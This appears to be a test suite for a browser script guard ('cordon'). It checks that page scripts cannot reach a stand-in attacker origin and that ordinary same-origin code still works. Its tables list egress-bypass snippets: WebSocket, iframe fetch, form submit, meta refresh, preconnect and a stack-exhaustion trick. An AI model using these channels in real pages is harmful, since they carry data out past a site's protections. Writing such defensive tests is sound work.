// The surfaces, the navigation, what is inserted, and lockdown, each by a script that would reach another origin.
import assert from "node:assert/strict";
import { after, before, suite, test } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import { packageScript } from "../support/package-scripts.mjs";
import { serve, shut } from "../support/servers.mjs";

const SETTLE_MS = 500;
const HTML = "text/html; charset=utf-8";
const SCRIPT = "text/javascript; charset=utf-8";
const PAGE = `<!doctype html><html><head><meta charset="utf-8"><title>page</title><link rel="icon" href="data:,"></head><body>
  <script type="module">import * as cordon from "/guard.js"; window.cordon = cordon;</script></body></html>`;

const FILES = {
  "/": [HTML, PAGE],
  "/worker.js": [SCRIPT, `onmessage = ({ data }) => postMessage(data)`],
  "/plain": [HTML, "<!doctype html><title>plain</title>"],
};

function servePage({ url, method }, response) {
  const path = new URL(url, "http://page").pathname;
  const script = packageScript(path);
  if (script !== undefined) {
    response.writeHead(200, { "Content-Type": SCRIPT }).end(script);
  } else {
    const [type, body] = FILES[path] ?? ["text/plain", method];
    response.writeHead(200, { "Content-Type": type, "Cache-Control": "no-store" }).end(body);
  }
}

function serveAttacker(_, response) {
  response.writeHead(200, { "Content-Type": HTML, "Access-Control-Allow-Origin": "*" }).end("<p>his");
}

/** Surfaces: the script, what it answers where it is refused, and the API that the violation names. */
const REFUSED = {
  EventSource: [`new EventSource(evil)`, "SecurityError", "EventSource"],
  WebSocket: [`new WebSocket(evil.replace("http", "ws"))`, "SecurityError", "WebSocket"],
  "WebSocket by http": [`new WebSocket(evil)`, "SecurityError", "WebSocket"],
  WebTransport: [`new WebTransport(evil.replace("http:", "https:"))`, "SecurityError", "WebTransport"],
  RTCPeerConnection: [`new RTCPeerConnection()`, "SecurityError", "RTCPeerConnection"],
  "RTCPeerConnection of a frame": [
    `const f = document.body.appendChild(document.createElement("iframe")); new f.contentWindow.RTCPeerConnection()`,
    "SecurityError",
    "RTCPeerConnection",
  ],
  "fetch of a frame": [
    `const f = document.body.appendChild(document.createElement("iframe")); return f.contentWindow.fetch(evil, { mode: "no-cors" })`,
    "TypeError",
    "fetch",
  ],
  "window.open": [`return window.open(evil) === null ? "null" : "opened"`, "null", "window.open"],
  "document.open": [`return document.open(evil, "x", "") === null ? "null" : "opened"`, "null", "window.open"],
  PaymentRequest: [
    `new PaymentRequest([{ supportedMethods: evil }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } })`,
    "SecurityError",
    "PaymentRequest",
  ],
  FedCM: [
    `return navigator.credentials.get({ identity: { providers: [{ configURL: evil + "/fedcm.json", clientId: "x" }] } })`,
    "SecurityError",
    "FedCM",
  ],
  "form.submit": [
    `const f = document.body.appendChild(document.createElement("form")); f.action = evil; f.submit(); return "stayed"`,
    "stayed",
    "form",
  ],
  "form.requestSubmit": [
    `const f = document.body.appendChild(document.createElement("form")); f.action = evil; f.requestSubmit(); return "stayed"`,
    "stayed",
    "form",
  ],
  "a link in no document": [
    `const a = document.createElement("a"); a.href = evil; a.target = "_blank"; a.click(); return "stayed"`,
    "stayed",
    "link",
  ],
  "a dispatched click": [
    `const a = document.createElement("a"); a.href = evil; a.target = "_blank"; a.dispatchEvent(new MouseEvent("click")); return "stayed"`,
    "stayed",
    "link",
  ],
  "a download": [
    `const a = document.createElement("a"); a.href = evil; a.download = "x"; a.click(); return "stayed"`,
    "stayed",
    "link",
  ],
  "fetch of a frame, on an exhausted stack": [
    `const f = document.body.appendChild(document.createElement("iframe")); let inner;
     const deep = () => { try { deep(); } catch {} if (!inner) try { inner = f.contentWindow.fetch; } catch {} };
     deep(); return inner(evil, { mode: "no-cors" })`,
    "TypeError",
    "fetch",
  ],
  location: [
    `location.href = evil; return new Promise((resolve) => setTimeout(() => resolve("stayed"), 100))`,
    "stayed",
    "navigate",
  ],
  "navigation.navigate": [
    `navigation.navigate(evil).finished.catch(() => {}); return new Promise((resolve) => setTimeout(() => resolve("stayed"), 100))`,
    "stayed",
    "navigate",
  ],
  "a refresh": [
    `document.head.insertAdjacentHTML("beforeend", '<meta http-equiv="refresh" content="0; url=' + evil + '">');
     return new Promise((resolve) => setTimeout(() => resolve("stayed"), 300))`,
    "stayed",
    /refresh|navigate/,
  ],
  speculationrules: [
    `const s = document.createElement("script"); s.type = "speculationrules";
     s.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [evil] }] }); document.head.append(s); return "stayed"`,
    "stayed",
    "speculationrules",
  ],
  "speculationrules by fragment": [
    `document.head.append(document.createRange().createContextualFragment('<script type="speculationrules">{}</scr' + 'ipt>'));
     return new Promise((resolve) => setTimeout(() => resolve(document.querySelector("script[type=speculationrules]") ? "there" : "gone"), 100))`,
    "gone",
    "speculationrules",
  ],
  preconnect: [
    `const l = document.createElement("link"); l.rel = "preconnect"; l.href = evil; document.head.append(l); return "stayed"`,
    "stayed",
    "hint",
  ],
  "preconnect by attributes": [
    `const l = document.createElement("link"); l.setAttribute("href", evil); l.setAttribute("REL", "PreConnect"); document.head.append(l); return "stayed"`,
    "stayed",
    "hint",
  ],
};

/** What an ordinary application does: none of it is refused or reported. */
const ALLOWED = {
  fetch: `return fetch("/own").then((r) => r.text())`,
  "fetch with a body": `return fetch("/own", { method: "POST", body: new FormData() }).then((r) => r.text())`,
  beacon: `return navigator.sendBeacon("/own", "x")`,
  xhr: `const x = new XMLHttpRequest(); x.open("GET", "/own", false); x.send(); return x.status`,
  socket: `const s = new WebSocket("/hmr", ["vite-hmr"]); return s.url.startsWith("ws:")`,
  EventSource: `return new EventSource("/own", { withCredentials: true }).withCredentials`,
  worker: `return new Promise((resolve) => { const w = new Worker("/worker.js"); w.onmessage = ({ data }) => resolve(data); w.postMessage(7); })`,
  "blob worker": `return new Promise((resolve) => {
    const w = new Worker(URL.createObjectURL(new Blob(["postMessage(8)"]))); w.onmessage = ({ data }) => resolve(data); })`,
  frame: `const f = document.createElement("iframe"); f.srcdoc = "<p>x"; document.body.append(f);
    return new Promise((resolve) => (f.onload = () => resolve(f.contentDocument.body.textContent)))`,
  "a link to a place": `const a = document.body.appendChild(document.createElement("a")); a.href = "#here"; a.click(); return location.hash`,
  "a link that its listener takes over": [
    `const a = document.body.appendChild(document.createElement("a")); a.href = "/elsewhere"; let seen;
     a.addEventListener("click", (event) => { seen = event.defaultPrevented; event.preventDefault(); });
     const answer = a.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
     await new Promise((resolve) => setTimeout(resolve, 100)); return [seen, answer, location.pathname].join()`,
    "false,false,/",
  ],
  "a link whose handler says no": [
    `const a = document.body.appendChild(document.createElement("a")); a.href = "/elsewhere"; const no = () => false; a.onclick = no;
     a.click(); await new Promise((resolve) => setTimeout(resolve, 100)); return [a.onclick === no, location.pathname].join()`,
    "true,/",
  ],
  "a link whose handler says nothing": [
    `const a = document.createElement("a"); a.href = "#there"; a.onclick = () => {}; a.click();
     await new Promise((resolve) => setTimeout(resolve, 100)); return location.hash`,
    "#there",
  ],
  history: `history.pushState({}, "", "/pushed"); history.replaceState({}, "", "/"); return location.pathname`,
  style: `const s = document.createElement("style"); s.textContent = "p { color: red }"; document.head.append(s); return s.sheet.cssRules.length`,
  module: `return import("/worker.js").then(() => 1)`,
  modulepreload: `const l = document.createElement("link"); l.rel = "modulepreload"; l.href = "/worker.js"; document.head.append(l);
    return new Promise((resolve) => (l.onload = () => resolve(1)))`,
  "a custom element": `customElements.define("x-y", class extends HTMLElement { constructor() { super().attachShadow({ mode: "closed" }); } });
    return document.createElement("x-y").localName`,
  "inner HTML": `const d = document.createElement("div"); d.innerHTML = "<b>x</b>"; return d.textContent`,
};

/** Lockdown: the script, and the error or answer. */
const LOCKED = {
  iframe: [`document.createElement("iframe")`, "SecurityError"],
  "script in a namespace": [`document.createElementNS("http://www.w3.org/2000/svg", "svg:script")`, "SecurityError"],
  link: [`document.createElement("LINK")`, "SecurityError"],
  "a clone": [`document.querySelector("link").cloneNode()`, "SecurityError"],
  "an import": [`document.importNode(document.head, true)`, "SecurityError"],
  "another document": [`document.implementation.createHTMLDocument()`, "SecurityError"],
  innerHTML: [`document.body.innerHTML = "<b>x</b>"`, "TypeError"],
  "another policy": [`trustedTypes.createPolicy("mine", { createHTML: (x) => x })`, "TypeError"],
  RTCPeerConnection: [`return typeof RTCPeerConnection`, "undefined"],
  "window.open": [`return window.open("/plain") === null ? "null" : "opened"`, "null"],
  worker: [`new Worker("/worker.js")`, "SecurityError"],
  XSLT: [`new XSLTProcessor()`, "SecurityError"],
  "a built-in's subclass": [
    `customElements.define("x-l", class extends HTMLLinkElement {}, { extends: "link" })`,
    "SecurityError",
  ],
  "a parsed answer": [
    `const x = new XMLHttpRequest(); x.open("GET", "/plain"); x.responseType = "document"`,
    "SecurityError",
  ],
  fetch: [`return fetch("/own").then((r) => r.text())`, "GET"],
  paragraph: [`return document.createElement("p").localName`, "p"],
};

/** Runs in the page, ahead of the guard: a function of a source is what lockdown refuses. */
function prepare(source) {
  const AsyncFunction = Object.getPrototypeOf(async () => {}).constructor;
  window.prepared = new AsyncFunction("evil", source);
}

/** Runs in the page: what the script answers, or the name of what it throws. */
async function attempt(evil) {
  try {
    return (await window.prepared(evil)) ?? "done";
  } catch (error) {
    return error.name;
  }
}

/** An API that this engine lacks. */
const isAbsent = (answer) => answer === "ReferenceError";
/** What an engine lacks in a way that looks like a refusal, or does not hold; `docs/channels.md` shows it. */
const SKIPPED = {
  WebKitGTK: {
    "RTCPeerConnection of a frame": "there is no RTCPeerConnection",
    FedCM: "there is no FedCM",
    location: "there is no navigate event",
    "a refresh": "there is no navigate event",
  },
};

export function surfaces(Browser) {
  suite(`the guard's surfaces in ${Browser.engine}`, () => {
    let page, attacker, browser;

    before(async () => {
      page = await serve(servePage);
      attacker = await serve(serveAttacker);
      browser = await Browser.launch();
    });

    after(() => shut(browser, page, attacker));

    async function open(options, source = "") {
      // A driver's scripts run with a user's activation, so links may point nowhere else even then.
      const policy = { connect: ["'self'"], links: { origins: [] } };
      await browser.open(`${page.origin}/`);
      await browser.until(() => window.cordon !== undefined, [], "the package");
      await browser.run(prepare, source);
      await browser.run(
        (policy, options) => {
          window.guard = window.cordon.installGuard(policy, options);
        },
        policy,
        options,
      );
      attacker.reset();
    }

    const violations = () => browser.run(() => window.guard.violations.map(({ api, layer }) => ({ api, layer })));

    test("without a CSP, each surface refuses as the platform does", async (t) => {
      for (const [name, [source, expected, api]] of Object.entries(REFUSED)) {
        await t.test(name, async (t) => {
          const why = SKIPPED[Browser.engine]?.[name];
          if (why) return t.skip(why);
          await open({ pinCsp: false }, source);
          const answer = await browser.run(attempt, `${attacker.origin}/x`);
          if (isAbsent(answer)) return t.skip(`not in ${Browser.engine}`);
          await sleep(SETTLE_MS);
          assert.equal(answer, expected);
          assert.deepEqual(attacker.hits, []);
          const said = await violations();
          assert.ok(
            said.some((one) => (api instanceof RegExp ? api.test(one.api) : one.api === api)),
            JSON.stringify(said),
          );
        });
      }
    });

    test("an ordinary application is left alone", async (t) => {
      for (const [name, row] of Object.entries(ALLOWED)) {
        await t.test(name, async () => {
          const [source, expected] = [row].flat();
          await open({}, source);
          const answer = await browser.run(attempt, "");
          if (expected === undefined) assert.doesNotMatch(String(answer), /Error$|^done$/);
          else assert.equal(answer, expected);
          assert.deepEqual(await violations(), []);
        });
      }
    });

    test("the pinned CSP proves itself", async () => {
      await open({});
      const layer = await browser.until(
        () => window.guard.layers.find(({ name, detail }) => name === "csp" && detail.includes("proved in force")),
        [],
        "the proof",
      );
      assert.equal(layer.active, true);
      assert.deepEqual(await violations(), []);
    });

    test("a storm is reported in few requests, and never again", async () => {
      await browser.open(`${page.origin}/`);
      await browser.until(() => window.cordon !== undefined, [], "the package");
      await browser.run((endpoint) => {
        window.told = 0;
        window.guard = window.cordon.installGuard(
          { connect: ["'self'"], reportTo: endpoint },
          {
            onViolation: () => {
              window.told++;
              return fetch("https://listener.invalid/").catch(() => {});
            },
          },
        );
      }, `${page.origin}/reports`);
      page.reset();
      await browser.run((evil) => {
        for (let at = 0; at < 300; at++) fetch(`${evil}/${at % 200}`).catch(() => {});
      }, attacker.origin);
      await sleep(2_500);
      const reports = page.hits.filter((url) => url === "/reports");
      assert.ok(reports.length >= 1 && reports.length <= 3, `${reports.length} reports`);
      const told = await browser.run(() => window.told);
      assert.ok(told >= 200 && told <= 320, `${told} calls of the listener`);
    });

    test("lockdown", async (t) => {
      for (const [name, [source, expected]] of Object.entries(LOCKED)) {
        await t.test(name, async () => {
          await open({ strength: "lockdown" }, source);
          assert.equal(await browser.run(attempt, ""), expected);
        });
      }
    });
  });
}
